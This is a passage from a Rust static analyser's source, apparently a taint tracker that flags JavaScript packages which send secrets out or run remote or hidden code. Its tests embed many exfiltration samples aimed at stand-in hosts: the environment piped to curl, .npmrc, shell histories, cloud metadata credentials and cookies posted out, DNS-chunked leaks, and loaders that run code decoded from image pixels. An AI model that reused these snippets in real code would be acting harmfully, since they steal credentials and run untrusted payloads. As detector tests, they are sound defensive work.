                        && !self.const_data.contains_key(id.name.as_str())
                    {
                        self.const_data.insert(id.name.to_string(), true);
                    }
                }
            }
            if let BindingPattern::BindingIdentifier(id) = &it.id {
                let key = std::ptr::from_ref(it) as usize;
                if !self.paths.contains_key(id.name.as_str())
                    && self.paths_seen.get(&key) != Some(&self.paths.len())
                    && let Some(w) = self.names_credential_seen(key, init)
                    && !matches!(init.without_parentheses(), Expression::CallExpression(c)
                        if self.path_of(&c.callee).is_some_and(|p| p.starts_with("fs.")))
                {
                    self.paths.insert(id.name.to_string(), w);
                    self.grew = true;
                }
            }
            if let Some(t) = self.taint_of(init, 0) {
                self.taint_pattern(&it.id, &t);
            }
        }
        walk::walk_variable_declarator(self, it);
    }

    fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
        if let Some(t) = self.taint_of(&it.right, 0) {
            match &it.left {
                AssignmentTarget::AssignmentTargetIdentifier(id) => {
                    self.taint_var(id.name.as_str(), t)
                }
                left => {
                    // `data.env = process.env`, `out[k] = env[k]`: the object holds it now.
                    if let Some(m) = left.as_member_expression()
                        && let Expression::Identifier(obj) = m.object().without_parentheses()
                        && obj.name != "module"
                        && obj.name != "exports"
                        && obj.name != "process"
                    {
                        self.taint_var(obj.name.as_str(), t);
                        self.filled.insert(obj.name.to_string());
                    }
                }
            }
        }
        walk::walk_assignment_expression(self, it);
    }

    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        let off = self.an.offset(it.span);
        self.check_sink(&it.callee, &it.arguments, off);
        walk::walk_call_expression(self, it);
    }

    fn visit_import_expression(&mut self, it: &ImportExpression<'a>) {
        let inline = inline_import(self.an, it);
        self.sites |= inline;
        if inline
            && let Some(t) = self.taint_of(&it.source, 0)
            && t.0 <= Source::Host
        {
            self.runs.push(Flow {
                source: t.0,
                what: t.1,
                sink: "import()".into(),
                off: self.an.offset(it.span),
            });
        }
        walk::walk_import_expression(self, it);
    }

    fn visit_new_expression(&mut self, it: &NewExpression<'a>) {
        let off = self.an.offset(it.span);
        self.check_sink(&it.callee, &it.arguments, off);
        walk::walk_new_expression(self, it);
    }
}

#[cfg(test)]
mod tests {
    use super::Source;
    use crate::js::{Parsed, analyze};

    fn flows(src: &str) -> Vec<(Source, String, String)> {
        flows_and_passes(src).0
    }

    /// The flows of a file and how many passes the tracker made.
    fn flows_and_passes(src: &str) -> (Vec<(Source, String, String)>, u32) {
        let (f, passes) = std::thread::scope(|s| {
            std::thread::Builder::new()
                .stack_size(64 << 20)
                .spawn_scoped(s, || {
                    super::PASSES.with(|p| p.set(0));
                    let f = analyze(src, "index.js", 4, 1 << 20);
                    (f, super::PASSES.with(|p| p.get()))
                })
                .expect("thread")
                .join()
                .expect("join")
        });
        let f = match f {
            Parsed::Ok(f) | Parsed::Failed(_, f) => f,
        };
        let flows = f
            .flows
            .into_iter()
            .map(|f| (f.source, f.what, f.sink))
            .collect();
        (flows, passes)
    }

    #[test]
    fn a_taint_found_in_a_later_pass_still_reaches_the_sink() {
        // The helper is declared below its use: its parameter is tainted in the first pass, the
        // send inside it only sees that in the second.
        let src = r#"const https = require("https");
function send(data) {
  https.request({ host: "h.example", path: "/" + data }).end();
}
const env = process.env;
send(JSON.stringify(env));"#;
        let (f, passes) = flows_and_passes(src);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].0, Source::Secrets);
        assert!(passes >= 2, "{passes}");
    }

    #[test]
    fn a_file_with_no_sink_or_runner_is_not_walked_by_the_tracker() {
        // Taints would grow (the environment through variables and a helper's parameter) and
        // the text passes the gate (`fetch`, `process.env`), but nothing could ever be recorded.
        let src = r#"function keep(data) { const copy = data; return copy; }
const env = process.env;
const all = keep(env);
const fetchMode = "cors";
module.exports = { all, fetchMode };"#;
        assert!(super::worth_tracking(src));
        let (f, passes) = flows_and_passes(src);
        assert!(f.is_empty(), "{f:?}");
        assert_eq!(passes, 0);
    }

    #[test]
    fn each_kind_of_site_makes_the_tracker_walk() {
        // A sink, a code runner given code, an unknown object's `_compile`, an uploading
        // command and an inline import each need the walk; a request to the credential
        // endpoint, a runner without arguments and a plain `import()` do not.
        let walked = [
            "const env = process.env; fetch('https://h.example/', { body: 'x' });",
            "const env = process.env; eval(s);",
            "const env = process.env; new Module(x)._compile(s);",
            "const env = process.env; require('child_process').exec('curl -d @- h.example');",
            "const env = process.env; import('data:text/javascript,' + s);",
        ];
        for src in walked {
            assert!(flows_and_passes(src).1 >= 1, "{src}");
        }
        let skipped = [
            "const env = process.env; fetch('http://169.254.169.254/latest/api/token');",
            "const env = process.env; eval();",
            "const env = process.env; import('./' + name);",
        ];
        for src in skipped {
            assert!(super::worth_tracking(src), "{src}");
            assert_eq!(flows_and_passes(src).1, 0, "{src}");
        }
    }

    #[test]
    fn dotenv_values_through_a_parser_and_a_helper_into_a_header() {
        let src = r#"const fs = require("fs"); const https = require("https"); const path = require("path");
function report(values) {
  const r = https.request({ host: "h.example", method: "GET",
    headers: { "x-schema": Buffer.from(JSON.stringify(values)).toString("base64") } });
  r.end();
}
function config(o = {}) {
  const p = o.path || path.resolve(process.cwd(), ".env");
  const parsed = parse(fs.readFileSync(p, "utf8"));
  report(parsed);
}"#;
        let f = flows(src);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].0, Source::Secrets);
        assert_eq!(f[0].2, "https.request");
    }

    #[test]
    fn credential_helper_output_in_a_body_but_not_in_the_auth_header() {
        let src = r#"const cp = require("child_process");
const token = process.env.GH_TOKEN || cp.execSync("gh auth token", { encoding: "utf8" }).trim();
async function go() {
  const h = { authorization: `token ${token}` };
  await fetch("https://api.github.example/user", { headers: h });
  await fetch("https://logs.example/t", { method: "POST", body: JSON.stringify({ token }) });
}"#;
        let f = flows(src);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].1, "gh auth token");
    }

    #[test]
    fn a_local_function_returning_a_secret_taints_its_callers() {
        let src = r#"const fs = require("fs"), os = require("os"), path = require("path");
function creds() { const rc = [os.homedir(), ".npmrc"].join(path.sep); return fs.readFileSync(rc, "utf8"); }
const c = creds();
require("https").get("https://t.example/v?c=" + encodeURIComponent(c));"#;
        let f = flows(src);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].1, "reads .npmrc");
        let plain = r#"function version() { return require("./package.json").version; }
require("https").get("https://t.example/v?c=" + version());"#;
        assert!(flows(plain).is_empty());
    }

    #[test]
    fn own_api_key_in_an_authorization_header_is_not_a_flow() {
        let src = r#"const https = require("https");
const key = process.env.ACME_API_KEY;
https.request({ host: "api.acme.example", headers: { Authorization: "Bearer " + key } }).end(JSON.stringify({ q: 1 }));
const env = process.env; require("child_process").spawn("node", ["x.js"], { env });"#;
        assert!(flows(src).is_empty());
    }

    #[test]
    fn one_variable_of_the_environment_is_not_the_environment() {
        // @tybys/wasm-util 0.10.5: a per-drive cwd read from `env[key]` ends up in a fetch URL.
        let src = r#"const env = typeof process !== "undefined" ? process.env : undefined;
let p = env && env["=C:"]; fetch(p + "/x.wasm");
const t = env.NPM_TOKEN; fetch("https://r.example/?t=" + t);"#;
        let f = flows(src);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].0, Source::Token);
    }

    #[test]
    fn a_dev_server_message_is_not_a_network_request() {
        // vite 5.2.10: `server.hot.send(...)` on the result of http.createServer.
        let src = r#"const http = require("http"); const server = http.createServer(); const env = process.env;
server.hot.send({ type: "update", data: env });"#;
        assert!(flows(src).is_empty());
    }

    #[test]
    fn dotenv_read_without_network_is_not_a_flow() {
        let src = r#"const fs = require("fs");
const parsed = JSON.parse(fs.readFileSync(".env", "utf8"));
for (const k in parsed) process.env[k] = parsed[k];
console.log(`loaded ${Object.keys(parsed).length} variables from https://docs.example`);"#;
        assert!(flows(src).is_empty());
    }

    #[test]
    fn whole_environment_piped_to_curl() {
        let src = r#"const { exec } = require("child_process");
const d = Buffer.from(JSON.stringify(process.env)).toString("base64");
exec(`curl -s -d ${d} https://c.example/e`);"#;
        let f = flows(src);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].0, Source::Secrets);
    }

    fn runs(src: &str) -> Vec<(Source, String)> {
        let f = match std::thread::scope(|s| {
            std::thread::Builder::new()
                .stack_size(64 << 20)
                .spawn_scoped(s, || analyze(src, "index.js", 4, 1 << 20))
                .expect("thread")
                .join()
                .expect("join")
        }) {
            Parsed::Ok(f) | Parsed::Failed(_, f) => f,
        };
        f.code_runs
            .into_iter()
            .map(|f| (f.source, f.sink))
            .collect()
    }

    #[test]
    fn image_pixels_run_as_code_are_remote() {
        let src = r#"function rev(s) { return s.split("").reverse().join(""); }
const img = new Image();
img.onload = () => {
  const c = document.createElement("canvas"); const g = c.getContext("2d"); g.drawImage(img, 0, 0);
  const px = g.getImageData(0, 0, c.width, c.height);
  const code = decodeQr(px.data, px.width, px.height);
  if (code) Reflect.apply(Function, null, [rev(code.data)])();
};
img.src = "https://h.example/b.png";"#;
        let r = runs(src);
        assert_eq!(r.first().map(|r| r.0), Some(Source::Remote), "{r:?}");
        let lsb = r#"const d = ctx.getImageData(0, 0, 64, 64).data; let s = "";
for (let i = 0; i < d.length; i += 4) s += String.fromCharCode(d[i]);
new Function(s)();"#;
        assert_eq!(runs(lsb).first().map(|r| r.0), Some(Source::Remote));
        // Pixels filtered and drawn back run nothing.
        let filter = r#"const px = ctx.getImageData(0, 0, w, h); for (let i = 0; i < px.data.length; i += 4) px.data[i] = 255 - px.data[i];
ctx.putImageData(px, 0, 0); const f = new Function("a", "b", "return a + b"); f(1, 2);"#;
        assert!(runs(filter).is_empty(), "{:?}", runs(filter));
    }

    #[test]
    fn a_runner_on_an_inline_require_runs_package_data() {
        // `require("vm").runInThisContext(x)`: the runner's object is the require call itself.
        let src = r#"if (typeof window === "undefined") {
  const m = JSON.parse(require("fs").readFileSync(__filename + ".map", "utf8"));
  const src = m.sourcesContent.find((s) => s.startsWith("/*c*/"));
  if (src) require("vm").runInThisContext(src, { filename: "x.js" })(require);
}"#;
        let r = runs(src);
        assert_eq!(r.first().map(|r| r.0), Some(Source::PackageData), "{r:?}");
        let other = r#"const m = JSON.parse(require("node:fs").readFileSync(__dirname + "/stage.json", "utf8"));
require("node:vm").runInNewContext(m.code, { require });"#;
        let r = runs(other);
        assert_eq!(r.first().map(|r| r.0), Some(Source::PackageData), "{r:?}");
        // Code the caller hands in is not hidden data.
        let caller = r#"module.exports = (code) => require("vm").runInThisContext(code);"#;
        assert!(runs(caller).is_empty(), "{:?}", runs(caller));
    }

    #[test]
    fn a_data_file_named_to_a_local_reader_runs_package_data() {
        // The image path is handed to a helper that reads and decodes it; its result is run.
        let src = r#"const fs = require("fs"), path = require("path"), zlib = require("zlib");
function pixels(file) { const buf = fs.readFileSync(file); const raw = zlib.inflateSync(buf.subarray(41)); const out = []; for (let i = 0; i < raw.length; i += 3) out.push(raw[i]); return Buffer.from(out); }
const code = pixels(path.join(__dirname, "assets", "logo.png")).toString();
new (Object.getPrototypeOf(async function () {}).constructor)("require", code)(require);"#;
        let r = runs(src);
        assert_eq!(r.first().map(|r| r.0), Some(Source::PackageData), "{r:?}");
        // The helper handed a path the caller chose runs the caller's code, not hidden data.
        let caller = r#"const fs = require("fs");
function load(file) { return fs.readFileSync(file, "utf8"); }
module.exports = (p) => new Function("require", load(p))(require);
const logo = require("path").join(__dirname, "logo.png");"#;
        assert!(runs(caller).is_empty(), "{:?}", runs(caller));
    }

    #[test]
    fn a_response_run_by_a_global_named_at_run_time() {
        let src = r#"function d(h, k) { let s = ""; for (let i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ k.charCodeAt(0)); return s; }
async function go() { const res = await fetch("https://h.example/c"); const j = await res.json(); globalThis[d("2a", "K")](j.message); }"#;
        let r = runs(src);
        assert_eq!(r.first().map(|r| r.0), Some(Source::Remote), "{r:?}");
        let kept = r#"function d(h) { return Buffer.from(h, "hex").toString(); }
const https = require("https");
https.get("https://h.example/c", (r) => { let s = ""; r.on("data", (c) => (s += c)); r.on("end", () => { const g = globalThis[d("6576616c")]; g("(function(q){" + JSON.parse(s).x + "})")(require); }); });"#;
        let r = runs(kept);
        assert_eq!(r.first().map(|r| r.0), Some(Source::Remote), "{r:?}");
        // A callback named by the caller (JSONP) is given data, not code.
        let jsonp = r#"async function go(cb) { const res = await fetch("https://h.example/c"); window[cb](await res.json()); }
const o = { run: 1 }; globalThis["console"].log(o);"#;
        assert!(runs(jsonp).is_empty(), "{:?}", runs(jsonp));
    }

    #[test]
    fn a_response_handed_to_a_callback_parameter_reaches_compile() {
        let src = r#"const https = require("https"); const Module = require("module");
function remote(cb) { https.get("https://h.example/raw", (res) => { let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => cb(b)); }); }
remote((src) => { const m = new Module("x", module); m._compile(src, "x.js"); });"#;
        let r = runs(src);
        assert_eq!(r.first().map(|r| r.0), Some(Source::Remote), "{r:?}");
        let local = r#"const Module = require("module"); const fs = require("fs");
function load(file, cb) { cb(fs.readFileSync(file, "utf8")); }
load(process.argv[2], (src) => { const m = new Module("x", module); m._compile(src, "x.js"); });"#;
        assert!(runs(local).is_empty());
    }

    #[test]
    fn environment_copied_key_by_key_is_the_environment() {
        let src = r#"const grab = {};
for (const k of Object.keys(process.env)) if (/KEY|TOKEN/i.test(k)) grab[k] = process.env[k];
fetch("https://c.example/u", { method: "POST", body: JSON.stringify(grab) });"#;
        let f = flows(src);
        assert_eq!(f.first().map(|f| f.0), Some(Source::Secrets), "{f:?}");
        let one = r#"const o = {}; for (const k of ["HOME", "LANG"]) o[k] = process.env[k];
fetch("https://c.example/u", { method: "POST", body: JSON.stringify(o) });"#;
        assert!(flows(one).is_empty());
    }

    #[test]
    fn secret_named_keys_filtered_then_copied_reach_a_request() {
        let src = r#"const https = require("https");
const keys = Object.keys(process.env).filter((k) => /TOKEN|SECRET/.test(k));
if (keys.length) {
  const env = {};
  for (const k of keys) env[k] = process.env[k];
  const body = Buffer.from(JSON.stringify({ cwd: process.cwd(), env })).toString("base64");
  const r = https.request({ host: "h.example", method: "POST" });
  r.end(body);
}"#;
        let f = flows(src);
        assert_eq!(f.first().map(|f| f.0), Some(Source::Secrets), "{f:?}");
        // Settings handed to a client under `env` are not the environment sent.
        let settings = r#"fetch("https://h.example", { method: "POST", body: JSON.stringify({ env: process.env }) });
const env = "production"; fetch("https://h.example", { method: "POST", body: JSON.stringify({ env }) });
function opts(o) { const env = o.env || process.env; return { env, argv: [] }; } fetch(opts({}).argv);"#;
        assert!(flows(settings).is_empty(), "{:?}", flows(settings));
        // A copy of the whole environment in an error report's context is the environment.
        let report = r#"function ctx() { return { runtime: { argv: process.argv, env: { ...process.env } } }; }
fetch("https://h.example/e", { method: "POST", body: JSON.stringify({ contexts: ctx() }) });"#;
        assert_eq!(flows(report).first().map(|f| f.0), Some(Source::Secrets));
        // The same copy handed to a process start sends nothing.
        let spawn = r#"const cp = require("child_process"); const opts = { env: { ...process.env, A: "1" } };
cp.spawn("node", ["x.js"], opts); fetch("https://h.example/p", { method: "POST", body: "ping" });"#;
        assert!(flows(spawn).is_empty(), "{:?}", flows(spawn));
    }

    #[test]
    fn catalogue_sources_reach_sinks() {
        for (src, want) in [
            (
                "const h = require('fs').readFileSync(require('os').homedir() + '/.node_repl_history', 'utf8'); fetch('https://c.example/h', { method: 'POST', body: h });",
                Source::Secrets,
            ),
            (
                "const v = require('fs').readFileSync(path.join(home, 'vaults', 'main.kdbx')); require('https').request({ host: 'v.example', method: 'POST' }).end(v);",
                Source::Secrets,
            ),
            (
                "const fs = require('fs'); const axios = require('axios'); const p = fs.readFileSync(path.join(home, '.pypirc'), 'utf8'); axios.post('https://x.example/c', { p });",
                Source::Secrets,
            ),
            (
                "const d = JSON.stringify(localStorage); navigator.sendBeacon('https://b.example/c', d);",
                Source::Secrets,
            ),
            (
                "const t = localStorage.getItem('auth_token'); fetch('https://t.example/?' + t, { mode: 'no-cors' });",
                Source::Token,
            ),
            (
                "const c = document.cookie; new WebSocket('wss://w.example').send(c);",
                Source::Token,
            ),
            (
                "import AsyncStorage from '@react-native-async-storage/async-storage'; const keys = await AsyncStorage.getAllKeys(); const all = await AsyncStorage.multiGet(keys); fetch('https://a.example/s', { method: 'POST', body: JSON.stringify(all) });",
                Source::Secrets,
            ),
            (
                "const r = await fetch('http://169.254.170.2' + process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI); const creds = await r.json(); await fetch('https://hook.example/x', { method: 'POST', body: JSON.stringify(creds) });",
                Source::Secrets,
            ),
            (
                "const fs = require('fs'), https = require('https'); const w = fs.readFileSync(process.env.AWS_WEB_IDENTITY_TOKEN_FILE, 'utf8'); https.request({ host: 'h.example', method: 'POST' }).end(w);",
                Source::Secrets,
            ),
            (
                "const { session } = require('electron'); session.defaultSession.webRequest.onBeforeSendHeaders((details, cb) => { fetch('https://s.example/h', { method: 'POST', body: JSON.stringify(details.requestHeaders) }); cb({}); });",
                Source::Secrets,
            ),
            (
                "const { session } = require('electron'); session.defaultSession.cookies.get({}).then((c) => fetch('https://s.example/c', { method: 'POST', body: JSON.stringify(c) }));",
                Source::Secrets,
            ),
            (
                "const fs = require('fs'), os = require('os'), path = require('path'); const out = []; for (const n of ['.psql_history', '.mysql_history']) { out.push(fs.readFileSync(path.join(os.homedir(), n), 'utf8')); } fetch('https://c.example/u', { method: 'POST', body: out.join('') });",
                Source::Secrets,
            ),
            (
                "const fs = require('fs'), path = require('path'), https = require('https'); const r = {}; ['.pypirc', '.gem/credentials'].forEach(function (rel) { r[rel] = fs.readFileSync(path.join(home, rel), 'utf8'); }); https.request({ host: 'c.example', method: 'POST' }).end(JSON.stringify(r));",
                Source::Secrets,
            ),
            (
                "const http = require('http'), https = require('https'); function get(path) { return new Promise((resolve) => { http.request({ host: '169.254.169.254', path }, (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => resolve(d)); }).end(); }); } (async () => { const c = await get('/latest/meta-data/iam/security-credentials/x'); https.request({ host: 'c.example', method: 'POST' }).end(c); })();",
                Source::Secrets,
            ),
            (
                "const fs = require('fs'); const nodemailer = require('nodemailer'); const h = fs.readFileSync(home + '/.bash_history', 'utf8'); nodemailer.createTransport({ host: 'smtp.example' }).sendMail({ to: 'a@example.com', text: h });",
                Source::Secrets,
            ),
        ] {
            let f = flows(src);
            assert_eq!(f.first().map(|f| f.0), Some(want), "{src}: {f:?}");
        }
    }

    #[test]
    fn own_storage_and_plain_requests_are_not_catalogue_flows() {
        for src in [
            // An auth SDK keeps its own token and sends it where it belongs.
            "const t = localStorage.getItem('auth_token'); fetch('/api/me', { headers: { Authorization: 'Bearer ' + t } });",
            // A preference key, not a credential.
            "const theme = localStorage.getItem('theme'); navigator.sendBeacon('/metrics', JSON.stringify({ theme, t: performance.now() }));",
            // Page metrics over a beacon.
            "navigator.sendBeacon('https://m.example/c', JSON.stringify({ path: location.pathname, ms: performance.now() }));",
            // A history file read for a prompt, never sent.
            "const fs = require('fs'); const h = fs.readFileSync(home + '/.zsh_history', 'utf8').split('\n'); console.log(h.length); fetch('https://api.example/v');",
            // Files of a list that holds no credential, sent.
            "const fs = require('fs'); const out = []; for (const n of ['README.md', 'CHANGELOG.md']) { out.push(fs.readFileSync(n, 'utf8')); } fetch('https://c.example/u', { method: 'POST', body: out.join('') });",
            // Metadata answer used as the client's own auth.
            "const r = await fetch('http://169.254.169.254/latest/api/token', { method: 'PUT' }); const tok = await r.text(); fetch('http://169.254.169.254/latest/meta-data/', { headers: { 'x-aws-ec2-metadata-token': tok } });",
        ] {
            let f = flows(src);
            assert!(f.iter().all(|f| f.0 < Source::Token), "{src}: {f:?}");
        }
    }

    #[test]
    fn chunks_of_the_environment_in_a_doh_query_name() {
        let src = r#"const picked = Object.entries(process.env).filter(([k]) => /^AWS_/.test(k));
const data = Buffer.from(JSON.stringify(picked)).toString("hex"); const chunks = data.match(/.{1,60}/g) || [];
chunks.forEach((c, i) => { const u = new URL("https://dns.example/dns-query"); u.searchParams.set("name", `${c}.${i}.z.example`); fetch(u); });"#;
        assert_eq!(flows(src).first().map(|f| f.0), Some(Source::Secrets));
        let plain = r#"["a", "b"].forEach((c) => { const u = new URL("https://dns.example/q"); u.searchParams.set("name", c); fetch(u); });"#;
        assert!(flows(plain).is_empty());
    }
}
